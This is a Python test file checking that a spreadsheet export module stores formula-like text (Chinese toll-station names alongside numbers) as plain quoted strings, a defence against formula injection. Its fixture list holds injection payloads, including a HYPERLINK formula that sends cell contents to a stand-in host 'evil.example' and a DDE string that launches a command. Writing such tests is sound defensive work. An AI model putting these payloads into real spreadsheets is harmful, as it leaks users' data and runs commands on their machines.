"""Text that a spreadsheet would run as a formula is written as text (fangkong.core.excel)."""

from __future__ import annotations

from io import BytesIO

from openpyxl import Workbook, load_workbook

from fangkong.core.excel import workbook_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_like_text_reads_back_as_plain_strings() -> None:
    book = Workbook()
    sheet = book.active
    for text in HOSTILE:
        sheet.append([text, "张掖西收费站", 42, -3.5])
    cell = book.create_sheet("second")["B7"]
    cell.value = "=1+1"
    reopened = load_workbook(BytesIO(workbook_bytes(book)))
    for row, text in enumerate(HOSTILE, start=1):
        hostile, plain, number, negative = reopened.active[row]
        # XML reads a carriage return back as a line feed; the text is otherwise as written.
        assert (hostile.value, hostile.data_type) == (text.replace("\r", "\n"), "s")
        assert hostile.quotePrefix  # Editing the cell in Excel keeps it text.
        assert (plain.value, plain.data_type, plain.quotePrefix) == ("张掖西收费站", "s", False)
        assert (number.value, number.data_type) == (42, "n")
        assert (negative.value, negative.data_type) == (-3.5, "n")
    second = reopened["second"]["B7"]
    assert (second.value, second.data_type) == ("=1+1", "s")
